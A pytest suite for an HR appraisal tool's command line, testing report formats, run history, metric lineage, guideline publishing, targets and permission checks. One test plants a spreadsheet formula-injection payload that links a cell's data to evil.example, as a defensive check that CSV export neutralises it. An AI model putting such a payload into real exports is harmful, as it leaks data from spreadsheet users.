"""`plaudit appraise` for HR scripting, lineage of a number, and the guideline and review commands."""
from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

from appraisal.guidelines import publish_guideline
from appraisal.lineage import metric_lineage
from core.db import transaction
from core.models import Feedback
from tests.fixtures.appraisal import GUIDELINE

WEEK_ARGS = ["appraise", "--from", "2026-11-02", "--to", "2026-11-08"]


def test_appraise_prints_json_csv_and_a_table(app, worked_example):
    runner = app.test_cli_runner()
    result = runner.invoke(args=[*WEEK_ARGS, "--format", "json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert report["run"]["period"] == "week" and report["run"]["guideline_version"] == 1
    # The last day included, as the API gives it; times in ISO 8601, as the API writes them
    assert (report["run"]["from"], report["run"]["to"], report["run"]["to_exclusive"]) == (
        "2026-11-02", "2026-11-08", "2026-11-09")
    decided = [r["decided_at"] for row in report["results"] for r in row["recommendations"] if r["decided_at"]]
    assert decided and all("T" in when and datetime.fromisoformat(when) for when in decided)
    by_name = {row["employee"]: row for row in report["results"]}
    assert round(by_name["Ann"]["composite"], 4) == round(70 + 5 / 6, 4) and by_name["Ann"]["rank"] == 1

    result = runner.invoke(args=[*WEEK_ARGS, "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [r["employee"] for r in rows][:3] == ["Ann", "Bob", "Dan"]
    assert rows[0]["csat_percent"] == "75.0" and rows[0]["csat_percent_n"] == "4"
    assert "bonus 100.00 (proposed)" in rows[0]["recommendations"]

    result = runner.invoke(args=WEEK_ARGS)
    assert result.exit_code == 0
    lines = result.output.splitlines()
    assert "guideline v1" in lines[0] and "Ann" in lines[2] and "70.8" in lines[2]
    # Each recommendation with its status: a column of bonuses adds up only knowing which stand.
    assert "bonus 100.00 (proposed)" in lines[2] and "recognition (approved on run 1)" in lines[2]
    assert any("Cat" in line and "too few" in line for line in lines)
    # An earlier run's bonus that nobody rejected says what did: it read "(rejected)", as if a person had.
    first = report["run"]["id"]
    earlier = runner.invoke(args=["appraisal", "show", str(first)]).output.splitlines()
    assert f"bonus 100.00 (superseded by run {first + 1})" in earlier[2] and "(rejected" not in earlier[2]


def test_appraise_csv_runs_no_formula_in_a_spreadsheet(app, worked_example):
    """An employee named =HYPERLINK(...) came out as a live formula, where the API's CSV defuses it."""
    from core.db import transaction
    from core.models import Employee

    with transaction() as session:
        session.get(Employee, worked_example.ids["ann"]).name = '=HYPERLINK("http://evil.example/?"&B2,"Click")'
    result = app.test_cli_runner().invoke(args=[*WEEK_ARGS, "--format", "csv"])
    names = [row["employee"] for row in csv.DictReader(io.StringIO(result.output))]
    assert """'=HYPERLINK("http://evil.example/?"&B2,"Click")""" in names
    assert not any(name.startswith("=") for name in names)


def test_appraise_again_lists_what_the_first_run_approved(app, worked_example):
    """A re-run does not issue again what was approved (Ann's recognition needs no approval): the results still
    list it, from the run that made it, as the report pages do."""
    runner = app.test_cli_runner()
    first = json.loads(runner.invoke(args=[*WEEK_ARGS, "--format", "json"]).output)
    second = json.loads(runner.invoke(args=[*WEEK_ARGS, "--format", "json"]).output)
    ann = next(row for row in second["results"] if row["employee"] == "Ann")
    recognition = [r for r in ann["recommendations"] if r["kind"] == "recognition"]
    assert [(r["status"], r["run_id"], r["guideline_version"]) for r in recognition] == [
        ("approved", first["run"]["id"], 1)]
    assert second["run"]["id"] != first["run"]["id"]
    csv_out = runner.invoke(args=[*WEEK_ARGS, "--format", "csv"]).output
    assert f"recognition (approved on run {first['run']['id']})" in csv_out


def test_appraisal_show_prints_a_run_already_made_and_runs_nothing(app, worked_example):
    """Exporting numbers with `appraise --from --to` runs the period again and supersedes undecided proposals;
    `appraisal show` prints the run already made, exactly, and runs nothing."""
    from appraisal.models import AppraisalRun, Recommendation

    runner = app.test_cli_runner()
    made = json.loads(runner.invoke(args=[*WEEK_ARGS, "--format", "json"]).output)
    with transaction() as session:
        before = (session.query(AppraisalRun).count(),
                  session.query(Recommendation).filter_by(status="proposed").count())
    again = runner.invoke(args=["appraisal", "show", str(made["run"]["id"]), "--format", "json"])
    assert again.exit_code == 0, again.output
    assert json.loads(again.output) == made
    with transaction() as session:
        assert (session.query(AppraisalRun).count(),
                session.query(Recommendation).filter_by(status="proposed").count()) == before
    assert runner.invoke(args=["appraisal", "show", "9999"]).exit_code == 1


def test_appraise_refuses_bad_dates_naming_the_option(app, worked_example):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["appraise", "--from", "2026-11-08", "--to", "2026-11-02"])
    assert result.exit_code == 2 and "--from/--to" in result.output and "before it starts" in result.output
    result = runner.invoke(args=["appraise", "--from", "2026-11-03", "--to", "2026-11-09", "--period", "week"])
    assert result.exit_code == 2 and "is not a week" in result.output


def test_appraise_of_a_run_that_cannot_succeed_fails_once(worked_example, make_app):
    from appraisal.models import AppraisalRun

    trimmed = make_app(PLUGINS_BLOCKED=["survey_scores"])  # the guideline's csat_percent and nps are gone
    with trimmed.app_context():  # the test's own app context would otherwise be the command's
        result = trimmed.test_cli_runner().invoke(args=WEEK_ARGS)
    assert result.exit_code == 1 and "which no loaded plugin provides" in result.output, result.output
    with trimmed.app_context(), transaction() as session:
        assert session.query(AppraisalRun.attempts).filter_by(status="failed").scalar() == 1


def test_lineage_lists_exactly_the_items_behind_a_metric(app, worked_example):
    run_id = worked_example.run()
    with transaction() as session:
        lineage = metric_lineage(session, run_id, worked_example.ids["bob"], "csat_percent")
    assert lineage["result"]["n"] == lineage["items_now"] == len(lineage["items"]) == 6
    assert sorted(i["value"] for i in lineage["items"]) == [1, 2, 4, 4, 4, 5]
    assert sum(i["points"] for i in lineage["items"]) / 6 == lineage["result"]["value"]
    formula = lineage["formula"]
    assert formula["params"] == {"top_box": None} and "CASE" in formula["points_sql"].upper()
    assert formula["shrinkage"].endswith("k = 2") and formula["min_n"] == 4
    assert lineage["run"]["guideline_version"] == 1


def test_guideline_commands(app, worked_example, tmp_path):
    runner = app.test_cli_runner()
    bad = dict(GUIDELINE, metrics=[{"rule": "csat_percent", "weight": 90}])
    path = tmp_path / "g.json"
    path.write_text(json.dumps(bad))
    result = runner.invoke(args=["guidelines", "publish", str(path), "--by", "hr@example.com"])
    assert result.exit_code == 1 and "metrics: weights must sum to 100; these sum to 90" in result.output
    result = runner.invoke(args=["guidelines", "publish", str(path), "--by", "mia@example.com"])
    assert result.exit_code == 1 and "only HR publishes" in result.output
    path.write_text(json.dumps(dict(GUIDELINE, min_sample=5)))
    result = runner.invoke(args=["guidelines", "publish", str(path), "--by", "hr@example.com", "--note", "n>=5"])
    assert result.output.strip() == "published guideline v2"
    assert runner.invoke(args=["guidelines", "diff", "1", "2"]).output.strip() == "min_sample: 4 -> 5"
    history = runner.invoke(args=["guidelines", "history"]).output
    assert "hr@example.com" in history and "n>=5" in history


def test_by_finds_an_account_whose_address_has_capitals_however_it_is_typed(app, worked_example, tmp_path):
    """Addresses are stored as typed; `--by HR.Lead@Example.org` found nobody, even typed exactly."""
    from core.models import User
    from core.models.accounts import NO_PASSWORD

    with transaction() as session:
        lead = User(email="HR.Lead+tz@Example.org", name="HR lead", password_hash=NO_PASSWORD)
        lead.roles = ["hr"]
        session.add(lead)
    path = tmp_path / "g.json"
    path.write_text(json.dumps(dict(GUIDELINE, min_sample=5)))
    runner = app.test_cli_runner()
    for typed in ("HR.Lead+tz@Example.org", " hr.lead+TZ@example.ORG "):
        result = runner.invoke(args=["guidelines", "publish", str(path), "--by", typed])
        assert result.exit_code == 0, result.output
    shown = runner.invoke(args=["guidelines", "show", "--version", "1"])
    assert shown.stderr.strip() == "guideline v1"
    assert json.loads(shown.stdout)["min_sample"] == 4  # the document itself: edit it and publish it again


def test_target_and_review_commands(app, worked_example):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["targets", "set", "--metric", "csat_percent", "--employee", "bob@example.com",
                                 "--from", "2026-11-01", "--to", "2026-11-30", "--value", "72",
                                 "--by", "mia@example.com"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(args=["targets", "set", "--metric", "csat_percent", "--employee", "dan@example.com",
                                 "--from", "2026-11-01", "--to", "2026-11-30", "--value", "72",
                                 "--by", "mia@example.com"])
    assert result.exit_code == 1 and "refused" not in result.output and "you may set targets only" in result.output
    assert "Bob" in runner.invoke(args=["targets", "list"]).output
    worked_example.run()
    listing = runner.invoke(args=["review", "recommendations"]).output
    first_id = listing.split()[0]
    result = runner.invoke(args=["review", "decide-recommendation", first_id, "--approve", "--by", "hr@example.com"])
    assert result.output.strip() == f"recommendation {first_id} approved"


def test_target_and_appraise_commands_refuse_what_they_cannot_do(app, worked_example):
    runner = app.test_cli_runner()
    base = ["targets", "set", "--metric", "csat_percent", "--from", "2026-11-01", "--to", "2026-11-30",
            "--value", "70", "--by", "hr@example.com"]
    result = runner.invoke(args=base)
    assert result.exit_code == 2 and "give either --employee or --team" in result.output
    result = runner.invoke(args=[*base, "--team", "Support"])  # a team by its name as well as its slug
    assert result.exit_code == 0 and "month 2026-11-01 to 2026-11-30" in result.output
    assert "2026-11-01 to 2026-11-30" in runner.invoke(args=["targets", "list"]).output
    result = runner.invoke(args=[*WEEK_ARGS, "--by", "mia@example.com"])
    assert result.exit_code == 1 and "only HR runs appraisals" in result.output
    result = runner.invoke(args=[*WEEK_ARGS, "--by", "hr@example.com", "--format", "json"])
    assert result.exit_code == 0
    assert "week 2026-11-02 to 2026-11-08" in runner.invoke(args=["appraisal", "runs"]).output


def test_lineage_leaves_out_items_the_rule_scores_null(app, worked_example):
    # mystery_section scores only its section's items; the other sections' are NULL, in no metric's n.
    with transaction() as session:
        for number, (section, value) in enumerate([("speed", 80.0), ("speed", 60.0), ("privacy", 10.0),
                                                   ("speed", 100.0), ("privacy", 20.0)]):
            session.add(Feedback(channel="mystery_shopper", kind="mystery_section", external_id=f"r{number}:{section}",
                                 value=value, scale_min=0, scale_max=100, employee_id=worked_example.ids["bob"],
                                 occurred_at=datetime(2026, 11, 3 + number % 3, 10, tzinfo=UTC),
                                 payload={"section": section}))
        metrics = [{"rule": "csat_percent", "weight": 50}, {"rule": "nps", "weight": 30},
                   {"rule": "mystery_section", "weight": 20, "params": {"section": "speed"}, "min_n": 2}]
        publish_guideline(session, dict(GUIDELINE, metrics=metrics), actor=None)
    run_id = worked_example.run(version=2)
    with transaction() as session:
        lineage = metric_lineage(session, run_id, worked_example.ids["bob"], "mystery_section")
    assert lineage["result"]["n"] == lineage["items_now"] == len(lineage["items"]) == 3
    assert sorted(i["points"] for i in lineage["items"]) == [60.0, 80.0, 100.0] and lineage["result"]["value"] == 80.0


def test_appraising_a_period_not_over_yet_says_its_numbers_will_change(app, worked_example):
    """A quarter still running was appraised, and its bonuses approved for good, without a word."""
    from appraisal.periods import month_of
    from core.models import utcnow

    runner = app.test_cli_runner()
    this_month = month_of(utcnow().date())
    first, last = this_month.start.date(), (this_month.end - timedelta(days=1)).date()
    result = runner.invoke(args=["appraise", "--from", str(first), "--to", str(last), "--by", "hr@example.com"])
    assert result.exit_code == 0, result.output
    assert f"note: the {this_month.label} has not ended yet (its last day is {last})" in result.stderr
    assert "has not ended" not in runner.invoke(args=[*WEEK_ARGS, "--by", "hr@example.com"]).stderr
